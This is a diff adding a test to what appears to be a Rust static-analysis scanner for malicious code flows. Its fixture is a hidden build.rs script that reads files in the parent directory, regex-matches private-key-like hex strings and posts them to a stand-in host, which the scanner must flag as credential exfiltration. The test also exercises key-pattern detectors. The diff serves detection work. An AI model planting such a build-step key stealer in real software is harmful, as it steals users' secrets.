@@ -261,3 +261,22 @@ fn go_dns_txt_answer_decoded_and_run_by_a_shell_is_download_exec() {
     let spf = "package d\n\nimport (\n\t\"fmt\"\n\t\"net\"\n)\n\nfunc spf() {\n\trecs, _ := net.LookupTXT(\"example.invalid\")\n\tfmt.Println(recs)\n}\n";
     assert_eq!(ends(&flows(&[("d/spf.go", spf)])), vec![]);
 }
+
+#[test]
+fn rust_keys_matched_in_scanned_files_and_posted_are_a_flow() {
+    let rs = "use regex::Regex;\nuse std::fs;\n\nfn main() {\n    let key = Regex::new(r\"0x[0-9a-fA-F]{64}\").unwrap();\n\
+              \x20   let mut found = Vec::new();\n    for p in fs::read_dir(\"..\").unwrap() {\n\
+              \x20       let text = fs::read_to_string(p.unwrap().path()).unwrap_or_default();\n\
+              \x20       for m in key.find_iter(&text) {\n            found.push(m.as_str().to_owned());\n        }\n    }\n\
+              \x20   let _ = ureq::post(\"https://h.invalid/rpc\").send_string(&format!(\"{:?}\", found));\n}\n";
+    let out = flows(&[("build.rs", rs)]);
+    assert_eq!(
+        ends(&out),
+        vec![(RuleId::CredentialExfiltration, "build.rs".to_owned(), 13, Some("build.rs".to_owned()), 5)]
+    );
+    // A pattern of version numbers sent is nothing.
+    let plain = rs.replace(r"0x[0-9a-fA-F]{64}", r"v[0-9]+\\.[0-9]+");
+    assert_eq!(ends(&flows(&[("build.rs", &plain)])), vec![]);
+    assert!(super::names::is_key_pattern(r"[1-9A-HJ-NP-Za-km-z]{86,88}"));
+    assert!(!super::names::is_key_pattern(r"[1-9A-HJ-NP-Za-km-z]{32,44}"), "addresses are public");
+}
